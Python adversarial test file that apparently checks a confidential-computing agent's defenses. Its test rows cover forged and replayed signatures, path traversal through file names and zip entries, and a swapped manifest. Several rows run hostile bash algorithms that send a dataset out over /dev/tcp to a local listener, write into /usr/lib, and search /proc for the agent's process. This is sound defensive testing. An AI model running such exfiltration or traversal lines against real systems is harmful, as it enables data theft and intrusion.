# SPDX-License-Identifier: Apache-2.0
"""Against a real agent: other parties of the computation, strangers with a recording, a service that
changes its mind, an algorithm that wants more than it was given. What counts as gained is what the
agent kept of the attacker's, or gave him."""
import base64
import contextlib

import grpc

from agent_job import (ALGO_KEY, DATA_KEY, IRIS, OTHER_KEY, SUM, USER_KEY, computing, manifest,
                       unzip)
from agent_peer import Client, Key, Service, Agent, algorithm, cvms_pb2, dataset, free_port, sha3, zip_of
from agent_tpm import Tpm
from attested_peer import Identity, Over, connect
from listener import Bridge, Listener
from rows import Outcome, row

EVIL = b"anything else\n"


def told(call, gained=None):
    """The outcome of a call: `gained` of its result, or of None when it was refused."""
    try:
        result = call()
    except grpc.RpcError as error:
        return Outcome(False, error.details(), gained(None) if gained else 0)
    return Outcome(True, "", gained(result) if gained else 1)


def planted(client, name):
    """Bytes of that dataset which the agent has, whole or in part."""
    def count(_):
        return sum((1 if d.received else 0) + d.bytes_kept for d in client.status().datasets
                   if d.filename == name)
    return count


def at_data(datasets=None, algo=SUM, **more):
    """An agent that waits for datasets."""
    @contextlib.contextmanager
    def world():
        with computing(lambda port: manifest(port, algo=algo, datasets=datasets, **more)) as (
                service, agent, client):
            client.algo(algo, ALGO_KEY)
            yield service, agent, client
    return world()


@row("dataset-by-another-provider", "not signed")
def another_providers_dataset(evil):
    """Provider A, a party of the manifest, uploads content in the place of B's dataset."""
    with at_data([dataset(IRIS, DATA_KEY, "iris.csv"), dataset(EVIL, OTHER_KEY, "b.csv")]) as (
            _, _, client):
        return told(lambda: client.data(EVIL, DATA_KEY if evil else OTHER_KEY, "b.csv"),
                    planted(client, "b.csv"))


@row("dataset-with-other-content", "no dataset")
def other_content(evil):
    """The owner of a dataset (or who holds his key) uploads something else under its name."""
    with at_data() as (_, _, client):
        return told(lambda: client.data(EVIL if evil else IRIS, DATA_KEY, "iris.csv"),
                    planted(client, "iris.csv"))


@row("dataset-under-another-name", "is called")
def another_name(evil):
    """The right content under a name that the manifest gives to another dataset's place."""
    with at_data() as (_, _, client):
        return told(lambda: client.data(IRIS, DATA_KEY, "other.csv" if evil else "iris.csv"),
                    planted(client, "iris.csv"))


@row("dataset-out-of-its-folder", "'/'")
def out_of_its_folder(evil):
    """A file name that leads out of datasets/."""
    with at_data() as (_, _, client):
        return told(lambda: client.data(IRIS, DATA_KEY, "../iris.csv" if evil else "iris.csv"),
                    planted(client, "iris.csv"))


@row("dataset-zip-out-of-its-folder", "decompress")
def zip_out_of_its_folder(evil):
    """A zip of the owner's with an entry that leads out of datasets/, to be unpacked."""
    content = zip_of([("../../escaped" if evil else "inside", EVIL)])
    with at_data([dataset(content, DATA_KEY, "set.zip", decompress=True),
                  dataset(IRIS, OTHER_KEY, "iris.csv")]) as (_, agent, client):
        return told(lambda: client.data(content, DATA_KEY, "set.zip", more=[("decompress", "true")]),
                    lambda _: sum("escaped" in path or "inside" in path for path in agent.work()))


@row("dataset-replaced", "here already")
def replaced(evil):
    """A dataset is sent again after the agent took it, in the hope that the second one counts."""
    with at_data([dataset(IRIS, DATA_KEY, "iris.csv"), dataset(EVIL, OTHER_KEY, "b.csv")]) as (
            _, _, client):
        if evil:
            client.data(IRIS, DATA_KEY, "iris.csv")
        return told(lambda: client.data(IRIS, DATA_KEY, "iris.csv"),
                    None if evil else planted(client, "iris.csv"))


@row("algorithm-by-a-data-provider", "algorithm's provider")
def algorithm_by_data_provider(evil):
    """A data provider sends the algorithm, which its own provider has not sent yet."""
    with computing() as (_, _, client):
        return told(lambda: client.algo(SUM, DATA_KEY if evil else ALGO_KEY),
                    lambda _: client.status().algorithm.received)


@row("algorithm-with-other-content", "no algorithm with SHA3-256")
def other_algorithm(evil):
    """The algorithm's provider sends another program than the one that all have agreed to."""
    with computing() as (_, _, client):
        return told(lambda: client.algo(b"#!/bin/sh\ncp datasets/* results\n" if evil else SUM,
                                        ALGO_KEY),
                    lambda _: client.status().algorithm.received)


@row("algorithm-with-other-arguments", "argument")
def other_arguments(evil):
    """The right program with arguments that the manifest does not have."""
    m = algorithm(SUM, ALGO_KEY, algo_args=["--mean"])
    with computing(lambda port: manifest(port, algorithm=m)) as (_, _, client):
        word = "--print-all" if evil else "--mean"
        return told(lambda: client.algo(SUM, ALGO_KEY, more=[("algo_args", word)]),
                    lambda _: client.status().algorithm.received)


# ---- results ----

@contextlib.contextmanager
def at_results(**more):
    with at_data(**more) as (service, agent, client):
        client.data(IRIS, DATA_KEY, "iris.csv")
        service.wait_event("ConsumingResults/Ready")
        yield service, agent, client


@row("results-twice", "already")
def results_twice(evil):
    """A consumer's key is used once more after the consumer has the results."""
    with at_results(consumers=(USER_KEY, OTHER_KEY)) as (_, _, client):
        if evil:
            client.result(USER_KEY)
        return told(lambda: client.result(USER_KEY), lambda got: len(got or b""))


@row("results-with-another-key", "consumer")
def results_with_another_key(evil):
    """A data provider, who is no consumer, asks for the results as one."""
    with at_results() as (_, _, client):
        return told(lambda: client.result(DATA_KEY if evil else USER_KEY),
                    lambda got: len(got or b""))


@row("results-before-the-run", "no results")
def results_early(evil):
    """A consumer asks before there are results, in the hope of another computation's."""
    with at_results() if not evil else at_data() as (_, _, client):
        return told(lambda: client.result(USER_KEY), lambda got: len(got or b""))


# ---- proofs ----

def data_proof(client, **changes):
    words = {"role": "data-provider", "method": "Data", "key": DATA_KEY, "asset": sha3(IRIS),
             "parameters": [("filename", "iris.csv"), ("decompress", "false")]}
    words.update(changes)
    return client.proof_metadata(**words)


def named(key):
    """Metadata that say: this key has signed."""
    return "proof-key", base64.b64encode(key.spki).decode()


def with_proof(name, check, **changes):
    """A row whose attack signs (or replays) something else than this very call."""
    def attempt(evil):
        with at_data() as (_, _, client):
            proof = data_proof(client, **(changes if evil else {}))
            return told(lambda: client.data(IRIS, None, "iris.csv", metadata=proof),
                        planted(client, "iris.csv"))
    attempt.__doc__ = f"A proof that its owner signed for {name[9:].replace('-', ' ')}."
    attempt.__module__ = __name__
    row(name, check)(attempt)


with_proof("proof-of-another-computation", "not signed", manifest=sha3(b"another manifest"))
with_proof("proof-of-another-role", "role", role="consumer")
with_proof("proof-of-another-method", "not signed", method="Result")
with_proof("proof-of-another-key", "not signed", key=OTHER_KEY)
with_proof("proof-of-other-parameters", "not signed",
           parameters=[("filename", "iris.csv"), ("decompress", "true")])
with_proof("proof-of-a-challenge-never-given", "challenge", challenge=bytes(32))


@row("key-of-a-party-named", "does not hold under the key that came with it")
def key_of_a_party_named(evil):
    """A stranger signs by himself and names keys of others, to hear whether the manifest has them: the
    refusal is the same for a party's and for anybody's."""
    with at_data([dataset(IRIS, DATA_KEY, "iris.csv"), dataset(EVIL, OTHER_KEY, "b.csv")]) as (
            _, _, client):
        if not evil:
            return told(lambda: client.data(IRIS, None, "iris.csv", metadata=data_proof(
                client, more=[named(DATA_KEY)])), planted(client, "iris.csv"))
        stranger, tried = Key(), []
        for key in (DATA_KEY, OTHER_KEY, ALGO_KEY, USER_KEY, Key(), Key()):
            proof = data_proof(client, key=stranger, more=[named(key)])
            tried.append(told(lambda proof=proof: client.data(IRIS, None, "iris.csv", metadata=proof),
                              planted(client, "iris.csv")))
        tried[0].gained += len({outcome.said for outcome in tried}) - 1
        tried[0].taken = any(outcome.taken for outcome in tried)
        return tried[0]


@row("proof-of-other-content", "other content")
def proof_of_other_content(evil):
    """Metadata that speak of one asset, and another's bytes behind them."""
    with at_data([dataset(IRIS, DATA_KEY, "iris.csv"), dataset(EVIL, DATA_KEY, "b.csv")]) as (
            _, _, client):
        proof = data_proof(client, **({"asset": sha3(EVIL)} if evil else {}))
        return told(lambda: client.data(IRIS, None, "iris.csv", metadata=proof),
                    planted(client, "iris.csv"))


@row("proof-replayed", "used or expired")
def proof_replayed(evil):
    """A recorded call is sent once more, word by word."""
    with at_data([dataset(IRIS, DATA_KEY, "iris.csv"), dataset(EVIL, OTHER_KEY, "b.csv")]) as (
            _, _, client):
        proof = data_proof(client)
        if evil:
            with contextlib.suppress(grpc.RpcError):  # the owner's own call, cut off on its way
                client.data(IRIS[:3], None, "iris.csv", metadata=proof)
        return told(lambda: client.data(IRIS, None, "iris.csv", metadata=proof),
                    planted(client, "iris.csv"))


@row("result-proof-shown-too-early", "used or expired")
def result_proof_shown_too_early(evil):
    """The consumer asks before there are results; whoever read that sends it again when there are."""
    with computing() as (service, _, client):
        proof = client.proof_metadata("consumer", "Result", USER_KEY, None, [])
        if evil:
            with contextlib.suppress(grpc.RpcError):
                client.result(None, metadata=proof)
        client.algo(SUM, ALGO_KEY)
        client.data(IRIS, DATA_KEY, "iris.csv")
        service.wait_event("ConsumingResults/Ready")
        return told(lambda: client.result(None, metadata=proof), lambda got: len(got) if got else 0)


@row("proof-of-another-session", "not signed")
def proof_of_another_session(evil):
    """Under TLS: a proof that the owner signed for his own connection, sent over another one by
    whoever read it there (the first connection's exporter is in it)."""
    agent = Identity("localhost")
    config = {"cert_file": agent.pem, "key_file": agent.key_pem}
    port = free_port()
    with computing(lambda port: manifest(port, config=config), port=port, client_args={"ca": agent.pem.decode()}):
        mine = connect("127.0.0.1", port)
        session = mine.tls.export_keying_material(b"EXPORTER-cocos-proof", 32)
        with Bridge(mine) as owner, Bridge(connect("127.0.0.1", port)) as other:
            first, second = Client(owner.port), Client(other.port)
            digest = first.status().manifest_digest
            proof = [p for p in first.proof_metadata(
                "algorithm-provider", "Algo", ALGO_KEY, sha3(SUM), [("algo_type", "bin")],
                manifest=digest, challenge=session)
                if p[0] != "proof-challenge"]
            sender = second if evil else first
            try:
                return told(lambda: sender.algo(SUM, None, metadata=proof),
                            lambda _: first.status().algorithm.received)
            finally:
                first.close()
                second.close()


@row("role-signature-replayed", "could be replayed")
def role_signature(evil):
    """The older signature, over nothing but the role's name, against an agent in production."""
    tpm, service = Tpm(), Service()
    agent = Agent(service, development=False, options=["--tcti", tpm.tcti])
    try:
        service.wait_connected()
        m = manifest(free_port())
        service.send(runReq=m)
        assert service.answer_to_run().error == ""
        client = Client(int(m.agent_config.port))
        proof = client.role_metadata("algorithm-provider", ALGO_KEY) if evil else (
            client.proof_metadata("algorithm-provider", "Algo", ALGO_KEY, sha3(SUM),
                                  [("algo_type", "bin")]))
        outcome = told(lambda: client.algo(SUM, None, metadata=proof),
                       lambda _: client.status().algorithm.received)
        client.close()
        return outcome
    finally:
        agent.remove()
        service.stop()
        tpm.remove()


# ---- the service ----

@row("service-sends-a-second-manifest", "computation")
def second_manifest(evil):
    """The service sends another manifest after the first was measured: another consumer, so that the
    results would be his."""
    with computing() as (service, _, client):
        before = client.status().manifest_digest
        if evil:
            service.send(runReq=manifest(free_port(), consumers=(OTHER_KEY,), id="c-2"))
            said = service.answer_to_run(1).error
        client.algo(SUM, ALGO_KEY)
        client.data(IRIS, DATA_KEY, "iris.csv")
        service.wait_event("ConsumingResults/Ready")
        assert client.status().manifest_digest == before
        outcome = told(lambda: client.result(OTHER_KEY if evil else USER_KEY),
                       lambda got: len(got or b""))
        return Outcome(outcome.taken, said if evil else outcome.said, outcome.gained)


@row("service-swaps-the-computation", "no results")
def swapped_computation(evil):
    """The service stops the computation once the data is in, and sends a manifest of its own for the
    same dataset, algorithm and name, whose results are the attacker's."""
    with at_data([dataset(IRIS, DATA_KEY, "iris.csv"), dataset(EVIL, OTHER_KEY, "b.csv")]) as (
            service, agent, client):
        client.data(IRIS, DATA_KEY, "iris.csv")
        if not evil:
            client.data(EVIL, OTHER_KEY, "b.csv")
            service.wait_event("ConsumingResults/Ready")
            return told(lambda: client.result(USER_KEY), lambda got: len(got or b""))
        service.send(stopComputation=cvms_pb2.StopComputation(computation_id="c-1"))
        service.wait(lambda s: s.of("stop_computation_res"))
        assert "iris.csv" not in "".join(agent.work())
        again = manifest(free_port(), consumers=(OTHER_KEY,), datasets=[
            dataset(IRIS, DATA_KEY, "iris.csv")])
        service.send(runReq=again)
        assert service.answer_to_run(1).error == ""
        thief = Client(int(again.agent_config.port))
        thief.algo(SUM, ALGO_KEY)
        outcome = told(lambda: thief.result(OTHER_KEY), lambda got: len(got or b""))
        outcome.gained += sum(d.received for d in thief.status().datasets)
        thief.close()
        return outcome


@row("stranger-without-a-client-certificate", "alert unknown ca")
def stranger(evil):
    """A manifest names a CA of clients; somebody without a certificate of it connects."""
    agent, owner = Identity("localhost"), Identity()
    config = {"cert_file": agent.pem, "key_file": agent.key_pem, "client_ca_file": owner.pem}
    port = free_port()
    with computing(lambda port: manifest(port, config=config), port=port, client_args={"ca": agent.pem.decode()}):
        mine = connect("127.0.0.1", port, identity=Identity() if evil else owner)
        # An agent that takes a client speaks first. Who wrote to one that has refused and closed would hear of the end,
        # and not always of the reason.
        try:
            return Outcome(True, "", len(mine.more()))
        except Over as why:
            return Outcome(False, str(why), 0)
        finally:
            mine.close()


# ---- the algorithm ----

def running_algorithm(script, what):
    """What became of a run of that shell script; `what` of the zip of its results."""
    script = b"#!/bin/bash\n" + script.encode()
    with at_data(algo=script) as (service, _, client):
        client.data(IRIS, DATA_KEY, "iris.csv")
        service.wait(lambda s: {"ConsumingResults/Ready", "Failed/Failed"} & set(s.events()))
        if "Failed/Failed" in service.events():
            service.wait(lambda s: "exit" in s.log_text() or s.of("agent_event")[-1].details)
            return Outcome(False, service.log_text(), 0)
        gained = what(unzip(client.result(USER_KEY)))
        return Outcome(gained > 0, service.log_text(), gained)


@row("algorithm-sends-data-out", "socket: Function not implemented")
def algorithm_sends_out(evil):
    """The algorithm connects to the attacker with the dataset, instead of writing results."""
    with CountingListener() as listener:
        out = f"/dev/tcp/127.0.0.1/{listener.port}" if evil else "results/out"
        outcome = running_algorithm(f"cat datasets/iris.csv > {out}\n",
                                    lambda files: len(files["out"]))
        outcome.gained += listener.received
        return outcome


class CountingListener(Listener):
    received = 0

    def serve(self, sock):
        while data := sock.recv(4096):
            self.received += len(data)


@row("algorithm-changes-the-image", "ead-only")
def algorithm_changes_the_image(evil):
    """The algorithm leaves something for whoever runs after it, outside of the layers that go with its run."""
    place = "/usr/lib" if evil else "datasets"
    return running_algorithm(f"cp datasets/iris.csv {place}/mine && cp {place}/mine results/mine\n",
                             lambda files: len(files["mine"]))


@row("algorithm-reads-the-agent", "no agent in sight")
def algorithm_reads_the_agent(evil):
    """The algorithm looks for the agent's process, in whose memory the keys are."""
    script = ("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; done > results/all\n"
              "grep -o 'cocos-agent' results/all > results/seen; rm results/all\n"
              "[ -s results/seen ] || { echo no agent in sight; exit 1; }\n")
    if not evil:
        script = "cat datasets/iris.csv > results/seen\n"
    return running_algorithm(script, lambda files: len(files["seen"]))
